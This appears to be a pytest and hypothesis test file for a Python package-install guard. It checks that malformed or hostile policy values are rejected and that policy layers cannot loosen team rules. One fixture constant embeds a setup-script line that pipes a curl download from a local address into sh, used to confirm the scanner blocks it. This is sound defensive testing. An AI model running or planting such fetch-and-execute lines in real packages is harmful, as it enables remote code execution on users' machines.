"""Hostile policies: values that validate must arm the rules, never disarm them.

A fault-injection campaign (issue 16) found policies that validated and then
disarmed or broke rules: ``nan`` scores, ``inf`` day counts, a deny name with a
trailing space, ``version = true``. Each case has a test here, and hypothesis
generates policies (and pairs of layers) of random values and types to check
that whatever validates also loads, layers and judges without raising, that
anything else raises ``PolicyError`` and nothing else, and that a later layer
cannot loosen the team's policy by spelling a value another way.
"""

from __future__ import annotations

import json
import math
import tempfile
from collections.abc import Mapping
from datetime import UTC, date, datetime, time, timedelta
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from packaging.utils import canonicalize_name
from packaging.version import Version

from guard.analysis.typosquat import is_project_name
from guard.errors import PolicyError
from guard.models import Action, Candidate, FileInfo, Finding, Ownership, Project, Release, Source
from guard.policy import layers
from guard.policy import model as policy
from guard.policy.entries import NOT_A_NAME
from guard.policy.validate import BadValue, check_threshold
from guard.rules import RULE_ERROR, RULES, by_id, evaluate
from guard.rules.base import Context, Param
from guard.rules.scan import InstallTimeCode
from guard.rules.typosquat import RULE as TYPOSQUAT
from tests.fakepypi.builders import build_sdist, sdist_filename

NOW = datetime(2026, 6, 1, 12, 0, tzinfo=UTC)
NUMBER_PARAMS = [
    (rule.id, param) for rule in RULES for param in rule.params if param.kind in {"int", "float"}
]
FLAG_PARAMS = [(rule.id, param) for rule in RULES for param in rule.params if param.kind == "bool"]
CURL_PIPE_SH = "import os\nos.system('curl -s http://127.0.0.1:9/x.sh | sh')\n"


def _load(tmp_path: Path, text: str) -> policy.Policy:
    path = tmp_path / "safepip.toml"
    path.write_text(text)
    return policy.load(str(path), tmp_path)


def _problems(tmp_path: Path, text: str) -> list[str]:
    with pytest.raises(PolicyError) as info:
        _load(tmp_path, text)
    prefix = f"{tmp_path / 'safepip.toml'}: "
    assert all(p.startswith(prefix) for p in info.value.problems), info.value.problems
    return [p.removeprefix(prefix) for p in info.value.problems]


# --- the campaign's findings, one by one --------------------------------------------


@pytest.mark.parametrize(
    ("toml", "problem"),
    [
        (
            "[rules.install-time-code]\nblock-score = nan",
            "rules.install-time-code.block-score: must be a finite number, not nan",
        ),
        (
            "[rules.typosquat]\nstrong-score = nan",
            "rules.typosquat.strong-score: must be a finite number, not nan",
        ),
        (
            "[rules.new-project]\nmin-age-days = inf",
            "rules.new-project.min-age-days: must be a finite number, not inf",
        ),
        (
            "[rules.new-project]\nmin-age-days = -inf",
            "rules.new-project.min-age-days: must be a finite number, not -inf",
        ),
        (
            "[rules.new-project]\nmin-age-days = 1e15",
            "rules.new-project.min-age-days: must be at most 36500",
        ),
        (
            "[rules.new-release]\nmin-age-days = 36501",
            "rules.new-release.min-age-days: must be at most 36500",
        ),
        (
            "[rules.weak-signals]\nblock-score = 1000.5",
            "rules.weak-signals.block-score: must be at most 1000",
        ),
        (
            "[rules.few-releases]\nmax-releases = 1_000_001",
            "rules.few-releases.max-releases: must be at most 1000000",
        ),
        (
            "[rules.dormant-revival]\nsilence-days = -1",
            "rules.dormant-revival.silence-days: must not be negative",
        ),
        (
            "[rules.new-project]\nmin-age-days = true",
            "rules.new-project.min-age-days: must be a number, not True",
        ),
        (
            "[rules.maintainers-changed]\nblock-partial = 1",
            "rules.maintainers-changed.block-partial: must be true or false, not 1",
        ),
        (
            "[rules.new-project]\naction = true",
            "rules.new-project.action: must be block, warn or ignore, not True",
        ),
        ('[[deny]]\nname = "requests "\nreason = "r"', f"deny[0].name: 'requests ' {NOT_A_NAME}"),
        ('[[allow]]\nname = " acme"\nreason = "r"', f"allow[0].name: ' acme' {NOT_A_NAME}"),
        ('[[deny]]\nname = "no/such"\nreason = "r"', f"deny[0].name: 'no/such' {NOT_A_NAME}"),
        (
            '[rules.typosquat]\nprotect = ["acme\\n"]',
            f"rules.typosquat.protect: 'acme\\n' {NOT_A_NAME}",
        ),
        (
            '[settings]\npypi-url = "https://"',
            "settings.pypi-url: must be an http(s) URL with a host, not 'https://'",
        ),
        (
            '[settings]\npypi-url = "https://pypi.org /simple"',
            "settings.pypi-url: must be an http(s) URL with a host, not 'https://pypi.org /simple'",
        ),
    ],
)
def test_a_value_that_would_disarm_or_break_a_rule_is_an_error(
    tmp_path: Path, toml: str, problem: str
) -> None:
    assert _problems(tmp_path, f"version = 1\n{toml}\n") == [problem]


@pytest.mark.parametrize(
    ("version", "problem"),
    [
        ("true", "version: must be the integer 1, not True"),
        ("1.0", "version: must be the integer 1, not 1.0"),
        ('"1"', "version: must be the integer 1, not '1'"),
        ("2", "version: 2 is not supported (use 1)"),
    ],
)
def test_version_is_the_integer_one(tmp_path: Path, version: str, problem: str) -> None:
    assert _problems(tmp_path, f"version = {version}\n") == [problem]


def test_every_problem_is_reported_at_once(tmp_path: Path) -> None:
    problems = _problems(
        tmp_path,
        "version = true\n"
        "[rules.install-time-code]\nblock-score = nan\nwarn-score = inf\n"
        '[rules.typosquat]\nprotect = ["ok", "bad one", " x"]\nstrong-score = true\n'
        '[[deny]]\nname = "requests "\nreason = "r"\n',
    )
    assert problems == [
        "version: must be the integer 1, not True",
        "rules.install-time-code.block-score: must be a finite number, not nan",
        "rules.install-time-code.warn-score: must be a finite number, not inf",
        f"rules.typosquat.protect: 'bad one' {NOT_A_NAME}",
        f"rules.typosquat.protect: ' x' {NOT_A_NAME}",
        "rules.typosquat.strong-score: must be a number, not True",
        f"deny[0].name: 'requests ' {NOT_A_NAME}",
    ]


def test_every_number_is_bounded_and_checked_by_kind() -> None:
    assert NUMBER_PARAMS and FLAG_PARAMS
    for rule_id, param in NUMBER_PARAMS:
        assert param.maximum is not None and math.isfinite(param.maximum), (rule_id, param.key)
        assert check_threshold(param, param.maximum) == param.maximum
        assert check_threshold(param, param.minimum) == param.minimum
        for bad in (math.nan, math.inf, -math.inf, param.maximum + 1, param.minimum - 1, True):
            with pytest.raises(BadValue):
                check_threshold(param, bad)
        with pytest.raises(BadValue):
            check_threshold(param, 10**400)  # larger than any float
    for _, param in FLAG_PARAMS:
        for not_a_flag in (0, 1, 1.0, "true"):
            with pytest.raises(BadValue, match="must be true or false"):
                check_threshold(param, not_a_flag)


def test_names_are_kept_canonical(tmp_path: Path) -> None:
    loaded = _load(
        tmp_path,
        'version = 1\n[rules.typosquat]\nprotect = ["Acme_Billing", "acme.auth"]\n'
        '[[deny]]\nname = "Evil_Pkg"\nreason = "r"\n'
        '[[allow]]\nname = "Our.Tool"\nreason = "r"\n',
    )
    assert loaded.thresholds["typosquat"]["protect"] == ("acme-billing", "acme-auth")
    assert set(loaded.denied()) == {"evil-pkg"}
    assert [entry.name for entry in loaded.allow] == ["our-tool"]


# --- what the rejected values would have done -----------------------------------------


def _candidate(name: str, filename: str = "", source: Source = Source.INDEX) -> Candidate:
    return Candidate(canonicalize_name(name), Version("1.0"), source, "", filename, None)


def test_a_deny_entry_matches_the_name_however_it_is_spelled(tmp_path: Path) -> None:
    loaded = _load(tmp_path, 'version = 1\n[[deny]]\nname = "Evil_Pkg"\nreason = "bad"\n')
    ctx = Context(now=NOW, denied=loaded.denied())
    findings = evaluate(_candidate("evil.pkg"), None, ctx)
    assert "denied" in {f.rule for f in findings}
    judged, _ = policy.judge(loaded, _candidate("evil.pkg"), findings, NOW.date())
    assert max(j.action for j in judged) is Action.BLOCK


def test_the_curl_pipe_sh_setup_script_stays_blocked(tmp_path: Path) -> None:
    filename = sdist_filename("demo", "1.0")
    archive = tmp_path / filename
    archive.write_bytes(build_sdist("demo", "1.0", build_code=CURL_PIPE_SH))
    candidate = _candidate("demo", filename)
    for thresholds in ({}, {"install-time-code": {"block-score": math.nan}}):
        # nan cannot come from a policy any more; were it to reach the rule, it reads as
        # the declared default, never as a score nothing reaches.
        ctx = Context(now=NOW, thresholds=thresholds, artifacts={filename: archive})
        findings = list(InstallTimeCode().check(candidate, None, ctx))
        assert any(f.rule == "install-time-code" and not f.weak for f in findings), thresholds


def test_a_typosquat_of_requests_stays_strong() -> None:
    for thresholds in ({}, {"typosquat": {"strong-score": math.nan}}):
        ctx = Context(now=NOW, thresholds=thresholds)
        findings = list(TYPOSQUAT.check(_candidate("reqeusts"), None, ctx))
        assert [(f.rule, f.weak) for f in findings] == [("typosquat", False)], thresholds


def test_the_largest_day_counts_do_not_crash_the_rules(tmp_path: Path) -> None:
    tables: dict[str, dict[str, object]] = {}
    for rule_id, param in NUMBER_PARAMS:
        if param.key.endswith("-days"):
            tables.setdefault(rule_id, {})[param.key] = param.maximum
    assert "new-project" in tables and "dormant-revival" in tables
    loaded = _load(tmp_path, toml_text({"version": 1, "rules": tables}))
    findings = _evaluate(loaded)
    assert RULE_ERROR not in {f.rule for f in findings}
    assert "new-project" in {f.rule for f in findings}  # 36500 days: everything is young


# --- layering: a later layer cannot loosen by spelling a value another way --------------


def _layered(tmp_path: Path, base: str, project: str) -> policy.Policy:
    (tmp_path / "team.toml").write_text(f"version = 1\n{base}\n")
    path = tmp_path / "safepip.toml"
    path.write_text(f'version = 1\nextends = "team.toml"\n{project}\n')
    loaded, _ = layers.load(path)
    return loaded


@pytest.mark.parametrize(
    ("base", "project", "problem"),
    [
        ("min-age-days = 30", "min-age-days = true", "must be a number, not True"),
        ("min-age-days = 30", "min-age-days = nan", "must be a finite number, not nan"),
        ("min-age-days = 30", "min-age-days = 29.5", "29.5 loosens 30"),
    ],
)
def test_a_later_layer_cannot_loosen_with_another_type(
    tmp_path: Path, base: str, project: str, problem: str
) -> None:
    with pytest.raises(PolicyError) as info:
        _layered(tmp_path, f"[rules.new-project]\n{base}", f"[rules.new-project]\n{project}")
    assert any(problem in p and "rules.new-project.min-age-days" in p for p in info.value.problems)


def test_a_flag_is_not_tightened_by_a_number(tmp_path: Path) -> None:
    with pytest.raises(PolicyError, match="must be true or false, not 1"):
        _layered(
            tmp_path,
            "[rules.maintainers-changed]\nblock-partial = true",
            "[rules.maintainers-changed]\nblock-partial = 1",
        )


def test_the_same_names_spelled_otherwise_do_not_loosen(tmp_path: Path) -> None:
    loaded = _layered(
        tmp_path,
        '[rules.typosquat]\nprotect = ["Acme_Billing", "acme.auth"]',
        '[rules.typosquat]\nprotect = ["acme-auth", "ACME-billing", "acme-new"]',
    )
    assert loaded.thresholds["typosquat"]["protect"] == ("acme-auth", "acme-billing", "acme-new")
    with pytest.raises(PolicyError, match="loosens"):
        _layered(
            tmp_path,
            '[rules.typosquat]\nprotect = ["Acme_Billing", "acme.auth"]',
            '[rules.typosquat]\nprotect = ["acme-auth"]',
        )


# --- hypothesis: random policies -------------------------------------------------------
#
# A generated policy is clean (every value of its declared kind and in range, so
# it validates, however odd), clean but for one hostile value (a special number,
# a bool for a number, a name with a space, version = true: the one thing
# validation must catch), or wild (any value may be of any type at all).

_TEXT = st.text(st.characters(codec="utf-8"), max_size=12)
_SCALARS = st.one_of(
    st.booleans(),
    st.integers(),
    st.floats(),
    _TEXT,
    st.dates(),
    st.datetimes(timezones=st.sampled_from([None, UTC])),
    st.times(),
)


def _nested(inner: st.SearchStrategy[object]) -> st.SearchStrategy[object]:
    return st.lists(inner, max_size=3) | st.dictionaries(_TEXT, inner, max_size=3)


ANYTHING = st.recursive(_SCALARS, _nested, max_leaves=6)
NAMES = st.from_regex(r"[A-Za-z0-9]([A-Za-z0-9._-]{0,10}[A-Za-z0-9])?", fullmatch=True)
BAD_NAMES = st.one_of(NAMES.map(lambda n: f"{n} "), NAMES.map(lambda n: f"\t{n}"), _TEXT)
SPECIAL_NUMBERS = st.sampled_from(
    [math.nan, math.inf, -math.inf, 1e15, 10**30, -1, -0.5, True, False]
)
REASONS = st.one_of(st.just("why"), _TEXT.filter(str.strip))
SPECIFIERS = st.sampled_from(["", ">=1", "<2", "==1.0", "!=1.0,>=0.1"])
RULE_IDS = st.sampled_from([*(rule.id for rule in RULES), RULE_ERROR])


def _pick(
    clean: bool, valid: st.SearchStrategy[object], *hostile: st.SearchStrategy[object]
) -> st.SearchStrategy[object]:
    """``valid`` for a clean policy; for a hostile one, mostly that (so that one bad
    value is often the only one), else ``hostile`` or anything."""
    if clean:
        return valid
    near = st.one_of(*hostile) if hostile else ANYTHING
    return st.integers(0, 9).flatmap(
        lambda roll: valid if roll < 6 else near if roll < 9 else ANYTHING
    )


def threshold_values(
    param: Param, clean: bool, only_bad: bool = False
) -> st.SearchStrategy[object]:
    """Values of ``param``'s kind in its range (clean), else also near misses and
    anything (``only_bad``: only near misses that validation must reject)."""
    if only_bad:
        return _bad_threshold_values(param)
    if param.kind in {"int", "float"}:
        top = param.maximum if param.maximum is not None else 1e6
        valid: st.SearchStrategy[object] = st.one_of(
            st.integers(int(param.minimum), int(top)),
            st.floats(param.minimum, top),
            st.sampled_from([param.minimum, top]),
        )
        beyond = st.one_of(st.integers(int(top) + 1), st.floats(top, top * 2))
        return _pick(clean, valid, SPECIAL_NUMBERS, SPECIAL_NUMBERS, beyond)
    if param.kind == "bool":
        return _pick(clean, st.booleans(), st.sampled_from([0, 1, 1.0, "true"]))
    if param.kind == "names":
        return _pick(clean, st.lists(NAMES, max_size=3), st.lists(BAD_NAMES, min_size=1))
    return _pick(clean, st.lists(_TEXT, max_size=3))


def _bad_threshold_values(param: Param) -> st.SearchStrategy[object]:
    if param.kind in {"int", "float"}:
        top = param.maximum if param.maximum is not None else 1e6
        return st.sampled_from(
            [math.nan, math.nan, math.inf, -math.inf, 1e15, 10**30, -1, -0.5, True, top + 1]
        )
    if param.kind == "bool":
        return st.sampled_from([0, 1, 1.0, "true"])
    if param.kind == "names":
        return st.lists(NAMES, max_size=2).flatmap(
            lambda good: BAD_NAMES.map(lambda bad: [*good, bad])
        )
    return st.sampled_from(["text", 3, [1], [True]])


@st.composite
def rule_tables(draw: st.DrawFn, clean: bool) -> dict[str, object]:
    tables: dict[str, object] = {}
    actions = st.sampled_from(["block", "warn", "ignore", "Warn", "IGNORE"])
    chosen = draw(st.lists(st.sampled_from(RULES), max_size=4, unique_by=lambda r: r.id))
    if TYPOSQUAT not in chosen and draw(st.booleans()):
        chosen.append(TYPOSQUAT)  # its protected names are worth more examples
    for rule in chosen:
        table: dict[str, object] = {}
        if draw(st.booleans()):
            table["action"] = draw(_pick(clean, actions, st.sampled_from([" warn", "deny", 1])))
        for param in rule.params:
            if draw(st.booleans()):
                table[param.key] = draw(threshold_values(param, clean))
        if not clean and draw(st.integers(0, 4)) == 0:
            table[draw(_TEXT)] = draw(ANYTHING)
        tables[rule.id] = table
    if not clean and draw(st.integers(0, 4)) == 0:
        tables[draw(st.sampled_from(["no-such-rule", "new-project"]))] = draw(ANYTHING)
    return tables


@st.composite
def entries(draw: st.DrawFn, allow: bool, clean: bool) -> list[object]:
    out: list[object] = []
    for _ in range(draw(st.integers(0, 2))):
        entry: dict[str, object] = {
            "name": draw(_pick(clean, NAMES, BAD_NAMES, st.just(""))),
            "reason": draw(_pick(clean, REASONS, st.just(" "))),
        }
        if draw(st.booleans()):
            entry["version"] = draw(_pick(clean, SPECIFIERS, st.just("bogus"), st.just("~=")))
        if draw(st.booleans()):
            dates = st.one_of(st.dates(), st.dates().map(date.isoformat))
            entry["expires"] = draw(_pick(clean, dates, st.just("soon")))
        if allow and draw(st.booleans()):
            entry["rules"] = draw(_pick(clean, st.lists(RULE_IDS, max_size=2), st.just(["nope"])))
        out.append(entry)
    if not clean and draw(st.integers(0, 4)) == 0:
        out.append(draw(ANYTHING))
    return out


@st.composite
def settings_tables(draw: st.DrawFn, clean: bool) -> dict[str, object]:
    table: dict[str, object] = {}
    if draw(st.booleans()):
        urls = st.sampled_from(["https://pypi.org", "http://127.0.0.1:1/x", "https://[::1]:8/"])
        bad = st.sampled_from(["https://", "ftp://x", "https://a b", "http://[::1"])
        table["pypi-url"] = draw(_pick(clean, urls, bad))
    if draw(st.booleans()):
        choices = st.sampled_from(["block", "warn"])
        table["on-network-error"] = draw(_pick(clean, choices, st.just("shrug")))
    return table


HOSTILE_VERSIONS = st.sampled_from([True, 1.0, "1", 2, 0])
HOSTILE_ACTIONS = st.sampled_from([" warn", "deny", 1, True, ["block"]])
NUMBER_RULES = [rule for rule in RULES if rule.params]


@st.composite
def one_fault(draw: st.DrawFn, data: dict[str, object]) -> dict[str, object]:
    """``data`` (a clean policy) with one value made hostile, so that it is the only
    thing validation can reject: a version, an action, a threshold, a name."""
    where = draw(st.sampled_from(["version", "action", "threshold", "threshold", "name"]))
    if where == "version":
        return {**data, "version": draw(HOSTILE_VERSIONS)}
    if where == "name":
        key = draw(st.sampled_from(["allow", "deny"]))
        entry = {"name": draw(BAD_NAMES), "reason": "r"}
        return {**data, key: [*_listed(data.get(key)), entry]}
    rule = draw(st.sampled_from(NUMBER_RULES))
    rules = data.get("rules")
    tables = dict(rules) if isinstance(rules, dict) else {}
    table = tables.get(rule.id)
    table = dict(table) if isinstance(table, dict) else {}
    if where == "action":
        table["action"] = draw(HOSTILE_ACTIONS)
    else:
        param = draw(st.sampled_from(rule.params))
        table[param.key] = draw(threshold_values(param, clean=False, only_bad=True))
    tables[rule.id] = table
    return {**data, "rules": tables}


def _listed(value: object) -> list[object]:
    return list(value) if isinstance(value, list) else []


@st.composite
def policies(draw: st.DrawFn) -> dict[str, object]:
    """A clean policy, one with a single hostile value, or one where anything goes."""
    mode = draw(st.sampled_from(["clean", "one-fault", "wild"]))
    clean = mode != "wild"
    data = draw(_policies(clean))
    return draw(one_fault(data)) if mode == "one-fault" else data


@st.composite
def _policies(draw: st.DrawFn, clean: bool) -> dict[str, object]:
    data: dict[str, object] = {}
    if draw(st.booleans()):
        data["version"] = draw(_pick(clean, st.just(1), st.sampled_from([True, 1.0, "1", 2])))
    if draw(st.booleans()):
        data["settings"] = draw(settings_tables(clean))
    data["rules"] = draw(rule_tables(clean))
    data["allow"] = draw(entries(True, clean))
    data["deny"] = draw(entries(False, clean))
    if not clean and draw(st.integers(0, 4)) == 0:
        data[draw(_TEXT.filter(lambda k: k not in {"extends", "layering"}))] = draw(ANYTHING)
    return data


def _project(name: str, ages: tuple[int, ...], description: str = "") -> Project:
    releases = {}
    for index, days_ago in enumerate(ages):
        version = Version(f"1.{index}")
        filename = f"{name}-1.{index}-py3-none-any.whl"
        info = FileInfo(
            filename, f"https://files.example/{filename}", "0" * 64, "bdist_wheel",
            NOW - timedelta(days=days_ago),
        )  # fmt: skip
        releases[version] = Release(version, (info,))
    return Project(
        name=canonicalize_name(name),
        display_name=name,
        description=description,
        latest_version=max(releases) if releases else None,
        releases=releases,
        ownership=Ownership(None, ("alice",)),
    )


SUBJECTS = (
    (_candidate("reqeusts"), _project("reqeusts", (1,))),
    (_candidate("demo"), _project("demo", (900, 400, 30, 2), "A project with a README. " * 3)),
    (_candidate("acme-billing", source=Source.URL), None),
)


def _evaluate(loaded: policy.Policy) -> list[Finding]:
    findings: list[Finding] = []
    for mode in ("install", "audit"):
        ctx = Context(now=NOW, mode=mode, thresholds=loaded.thresholds, denied=loaded.denied())
        for candidate, project in SUBJECTS:
            findings.extend(evaluate(candidate, project, ctx))
    return findings


def _judges(loaded: policy.Policy) -> None:
    """Every rule runs without a rule-error, and the policy judges findings of every
    rule (strong, weak, forced) for each candidate."""
    findings = _evaluate(loaded)
    assert [f.message for f in findings if f.rule == RULE_ERROR] == []
    made = [Finding(rule.id, "m", weak=weak) for rule in RULES for weak in (False, True)]
    made.append(Finding(RULE_ERROR, "m", forced=Action.BLOCK))
    for candidate, _ in SUBJECTS:
        for today in (NOW.date(), date(2100, 1, 1)):
            judged, _ = policy.judge(loaded, candidate, [*findings, *made], today)
            assert all(isinstance(j.action, Action) for j in judged)
            forced = [j for j in judged if j.finding.rule == RULE_ERROR]
            assert all(j.action is Action.BLOCK or j.allowed_because for j in forced)


def _threshold_fault(param: Param, value: object) -> str:
    """Why ``value`` cannot be ``param`` by the policy reference ('' if it can)."""
    if param.kind in {"int", "float"}:
        if isinstance(value, bool) or not isinstance(value, int | float):
            return "not a number"
        top = param.maximum if param.maximum is not None else math.inf
        fits = isinstance(value, int) or math.isfinite(value)
        return "" if fits and param.minimum <= value <= top else "out of range"
    if param.kind == "bool":
        return "" if isinstance(value, bool) else "not a flag"
    if param.kind == "names" and isinstance(value, list):
        return "" if all(isinstance(v, str) and is_project_name(v) for v in value) else "name"
    return ""


def _fault(data: Mapping[str, object]) -> str:
    """A reason the reference gives to reject ``data`` outright ('' if none of these)."""
    version = data.get("version", 1)
    if isinstance(version, bool) or not isinstance(version, int) or version != 1:
        return "version"
    tables = data.get("rules")
    for rule in RULES:
        table = tables.get(rule.id) if isinstance(tables, dict) else None
        if not isinstance(table, dict):
            continue
        for param in rule.params:
            fault = _threshold_fault(param, table[param.key]) if param.key in table else ""
            if fault:
                return f"{rule.id}.{param.key}: {fault}"
    for key in ("allow", "deny"):
        items = data.get(key)
        for item in items if isinstance(items, list) else ():
            name = item.get("name") if isinstance(item, dict) else None
            if isinstance(name, str) and not is_project_name(name):
                return f"{key} name {name!r}"
    return ""


def _well_formed(loaded: policy.Policy) -> None:
    """What the rules may rely on in a policy that validated."""
    for rule in RULES:
        for param in rule.params:
            value = loaded.threshold(rule.id, param.key)
            assert _threshold_fault(param, _as_toml(value)) == "", (rule.id, param.key, value)
            if param.kind == "names":
                assert isinstance(value, tuple)
                assert all(v == canonicalize_name(v) for v in value), value
    for entry in (*loaded.allow, *loaded.deny):
        assert is_project_name(entry.name) and entry.name == canonicalize_name(entry.name)


def _as_toml(value: object) -> object:
    return list(value) if isinstance(value, tuple) else value


HYPOTHESIS = settings(
    max_examples=300,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)


@HYPOTHESIS
@given(policies())
@example({"rules": {"install-time-code": {"block-score": math.nan}}})
@example({"rules": {"typosquat": {"strong-score": math.nan, "protect": ["Acme_Billing"]}}})
@example({"rules": {"new-project": {"min-age-days": True}}})
@example({"rules": {"new-project": {"min-age-days": 1e15}}})
@example({"deny": [{"name": "requests ", "reason": "r"}]})
@example({"version": True})
def test_a_random_policy_validates_and_judges_or_is_a_policy_error(data: dict[str, object]) -> None:
    try:
        loaded = policy.from_mapping(data, "p.toml")
    except PolicyError as exc:
        assert exc.problems and all(p.startswith("p.toml: ") for p in exc.problems)
        return
    assert _fault(data) == "", "validated a policy the reference rejects"
    _well_formed(loaded)
    _judges(loaded)


# --- hypothesis: random layers, written as TOML and loaded from files ---------------------


def toml_value(value: object) -> str:
    """``value`` as a TOML value (inline tables for tables)."""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, float):
        return ("-inf" if value < 0 else "inf") if math.isinf(value) else repr(value)
    if isinstance(value, int):
        return str(value)
    if isinstance(value, str):  # JSON's escapes are TOML's; TOML also escapes DEL
        return json.dumps(value, ensure_ascii=False).replace("\x7f", "\\u007f")
    if isinstance(value, datetime | date | time):
        return value.isoformat()
    if isinstance(value, list):
        return "[" + ", ".join(toml_value(v) for v in value) + "]"
    if isinstance(value, dict):
        return "{" + ", ".join(f"{toml_value(k)} = {toml_value(v)}" for k, v in value.items()) + "}"
    raise TypeError(type(value))


def toml_text(data: Mapping[str, object]) -> str:
    return "".join(f"{toml_value(key)} = {toml_value(value)}\n" for key, value in data.items())


def _validates(data: Mapping[str, object]) -> policy.Policy | None:
    try:
        return policy.from_mapping(data, "layer.toml")
    except PolicyError:
        return None


def _at_least_as_strict(param: Param, value: object, below: object) -> bool:
    if param.stricter is None:
        return value == below
    if param.kind in {"strings", "names"}:
        assert isinstance(value, tuple) and isinstance(below, tuple)
        return set(value) >= set(below) if param.stricter == "more" else set(value) <= set(below)
    assert isinstance(value, int | float) and isinstance(below, int | float)
    return value >= below if param.stricter == "higher" else value <= below


def _no_looser(effective: policy.Policy, base: policy.Policy) -> None:
    for rule in RULES:
        assert effective.action(rule.id) >= base.action(rule.id), rule.id
        for param in rule.params:
            value = effective.threshold(rule.id, param.key)
            below = base.threshold(rule.id, param.key)
            assert _at_least_as_strict(param, value, below), (rule.id, param.key, value, below)
    assert set(effective.allow) <= set(base.allow)
    assert set(effective.deny) >= set(base.deny)
    assert effective.pypi_url == base.pypi_url
    assert base.on_network_error == "warn" or effective.on_network_error == "block"


def _respellings(value: object, names: bool) -> st.SearchStrategy[tuple[object, bool]]:
    """``value`` written another way, and whether it means the same: 30 as 30.0,
    a name in other case and separators (the same), or true as 1, 30 as 29.999999999,
    a name fewer (not the same)."""
    if isinstance(value, bool):
        return st.sampled_from([(value, True), (int(value), False), (not value, False)])
    if isinstance(value, int | float) and math.isfinite(value):
        same = [(value, True), (float(value), True)]
        if float(value).is_integer():
            same.append((int(value), True))
        return st.sampled_from([*same, (value - 1e-9, False), (value + 1e-9, False)])
    if isinstance(value, list) and all(isinstance(v, str) for v in value):
        spelled = [v.upper().replace("-", "_") for v in value] if names else value
        return st.sampled_from(
            [(value, True), (spelled, True), (spelled[1:], not value), ([*spelled, "z"], False)]
        )
    return st.just((value, True))


@st.composite
def layer_pairs(draw: st.DrawFn) -> tuple[dict[str, object], dict[str, object], bool]:
    """A team policy and a project policy that is random or respells the team's
    values, and whether the project's values all mean the same as the team's."""
    base = draw(policies())
    if draw(st.booleans()):
        return base, draw(policies()), False
    project: dict[str, object] = {"version": 1}
    tables = base.get("rules")
    project_rules: dict[str, object] = {}
    equivalent = True
    for rule_id, table in tables.items() if isinstance(tables, dict) else ():
        if isinstance(table, dict):
            rule = by_id().get(rule_id)
            kinds = {param.key: param.kind for param in rule.params} if rule else {}
            respelled = {
                key: draw(_respellings(value, kinds.get(key) == "names"))
                for key, value in table.items()
            }
            project_rules[rule_id] = {key: value for key, (value, _) in respelled.items()}
            equivalent = equivalent and all(same for _, same in respelled.values())
    project["rules"] = project_rules
    settings_table = base.get("settings")
    if isinstance(settings_table, dict):
        project["settings"] = dict(settings_table)
    return base, project, equivalent


@HYPOTHESIS
@given(layer_pairs(), st.sampled_from([None, False, True]))
@example(
    (
        {"rules": {"typosquat": {"protect": ["acme-billing"]}, "new-project": {"min-age-days": 9}}},
        {
            "rules": {
                "typosquat": {"protect": ["ACME_BILLING"]},
                "new-project": {"min-age-days": 9.0},
            }
        },
        True,
    ),
    None,
)
def test_random_layers_load_or_are_a_policy_error_and_never_loosen_unasked(
    pair: tuple[dict[str, object], dict[str, object], bool], allow_loosen: bool | None
) -> None:
    base, project, equivalent = pair
    team = (
        {**base, "layering": {"allow-loosen": allow_loosen}} if allow_loosen is not None else base
    )
    with tempfile.TemporaryDirectory() as tmp:
        (Path(tmp) / "team.toml").write_text(toml_text(team), encoding="utf-8")
        path = Path(tmp) / "safepip.toml"
        path.write_text(toml_text({"extends": "team.toml", **project}), encoding="utf-8")
        try:
            loaded, _ = layers.load(path, cache_dir=Path(tmp) / "cache")
        except PolicyError as exc:
            assert exc.problems
            loaded = None
    base_policy, project_policy = _validates(base), _validates(project)
    if base_policy is not None and project_policy is not None:
        if allow_loosen:
            assert loaded is not None, "two valid layers, loosening allowed: it must load"
        if equivalent:
            assert loaded is not None, "the team's own values, spelled otherwise, do not loosen"
    if loaded is None:
        return
    assert base_policy is not None and project_policy is not None  # each layer validated
    _well_formed(loaded)
    _judges(loaded)
    if not allow_loosen:
        _no_looser(loaded, base_policy)
